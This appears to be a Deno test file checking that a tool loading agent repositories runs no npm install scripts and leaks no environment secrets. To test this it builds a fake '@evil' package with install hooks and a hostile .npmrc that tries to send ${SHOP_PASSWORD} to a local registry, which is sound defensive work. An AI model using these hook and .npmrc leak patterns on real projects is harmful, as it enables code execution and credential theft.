/** A repository whose packages have scripts: a developer who loads it does not start them. */
import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { createProject } from "../project.ts";
import { checkwrightIn, run } from "../serving.ts";
import { isMissing } from "../tools.ts";
import { outputOf, runToEnd } from "../waiting.ts";

const tar = "/usr/bin/tar";

const name = "@evil/scripts";

/** Makes the archive of a package with a script. */
async function archive(folder: string, script: string): Promise<Uint8Array<ArrayBuffer>> {
  await Deno.mkdir(`${folder}/package`);
  const scripts = { preinstall: script, install: script, postinstall: script };
  await Deno.writeTextFile(
    `${folder}/package/package.json`,
    JSON.stringify({ name, version: "1.0.0", main: "index.js", scripts }),
  );
  await Deno.writeTextFile(`${folder}/package/index.js`, "module.exports = 1;\n");
  await runToEnd(tar, { args: ["czf", `${folder}/evil.tgz`, "-C", folder, "package"] });
  return await Deno.readFile(`${folder}/evil.tgz`);
}

/** Serves the package as the npm registry does. */
async function serveRegistry(bytes: Uint8Array<ArrayBuffer>) {
  const digest = new Uint8Array(await crypto.subtle.digest("SHA-512", bytes)).toBase64();
  return Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, ({ url }) => {
    const { origin, pathname } = new URL(url);
    if (pathname.endsWith(".tgz")) return new Response(bytes);
    if (decodeURIComponent(pathname) !== `/${name}`) return new Response(null, { status: 404 });
    const dist = { tarball: `${origin}/evil.tgz`, integrity: `sha512-${digest}` };
    const found = { name, version: "1.0.0", hasInstallScript: true, dist };
    return Response.json({
      name,
      "dist-tags": { latest: "1.0.0" },
      versions: { "1.0.0": found },
    });
  });
}

Deno.test({
  name: "Loading and compiling an agent starts no script of the repository or of a package",
  ignore: isMissing(tar),
  async fn(t) {
    await using other = await createProject("export {};");
    const mark = `${other.folder}/started`;
    const script = `touch ${mark}`;
    const registry = await serveRegistry(await archive(other.folder, script));
    await using project = await createProject(
      `import evil from "npm:${name}@1.0.0";
export default { commands: { ok: () => "" + evil } };
`,
    );
    const { folder, agent } = project;
    const config = JSON.parse(await Deno.readTextFile(`${folder}/deno.json`));
    await project.write(
      "deno.json",
      JSON.stringify({ ...config, nodeModulesDir: "auto", allowScripts: true }),
    );
    await project.write(
      "package.json",
      JSON.stringify({ dependencies: { [name]: "1.0.0" }, scripts: { postinstall: script } }),
    );
    const address = `http://127.0.0.1:${registry.addr.port}/`;
    // Of this scope only: a variable of this machine may name a registry for all others.
    await project.write(".npmrc", `@evil:registry=${address}\n`);
    const names = () => [...Deno.readDirSync(folder)].map(({ name }) => name).sort();
    const before = names();
    for (const words of [["validate", agent], ["compile", agent, "--out", `${other.folder}/out`]]) {
      await t.step(words[0]!, async () => {
        const { code, stderr } = await run(...words);
        assertEquals(code, 0, stderr);
        assertEquals(names(), before);
        assertEquals(
          [...Deno.readDirSync(other.folder)].some(({ name }) => name === "started"),
          false,
        );
      });
    }
    await registry.shutdown();
  },
});

Deno.test("The .npmrc of a repository sends no variable of the environment to a registry", async () => {
  const requests: string[] = [];
  await using registry = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen: () => {} },
    ({ url, headers }) => {
      requests.push(`${url} ${headers.get("authorization")}`);
      return new Response(null, { status: 404 });
    },
  );
  await using project = await createProject(
    'import evil from "npm:@evil/9f2c@1.0.0";\nexport default { commands: { ok: () => `${evil}` } };\n',
  );
  const address = `127.0.0.1:${registry.addr.port}`;
  await project.write(
    ".npmrc",
    `@evil:registry=http://${address}/leak-\${SHOP_PASSWORD}/\n` +
      `//${address}/leak-\${SHOP_PASSWORD}/:_authToken=\${SHOP_PASSWORD}\n`,
  );
  const child = checkwrightIn({ SHOP_PASSWORD: "s3cret" }, "validate", project.agent).spawn();
  const { code } = await outputOf(child, "validate");
  assertEquals(code, 3);
  assertStringIncludes(requests.join(), "9f2c");
  assert(!requests.join().includes("s3cret"), requests.join());
});
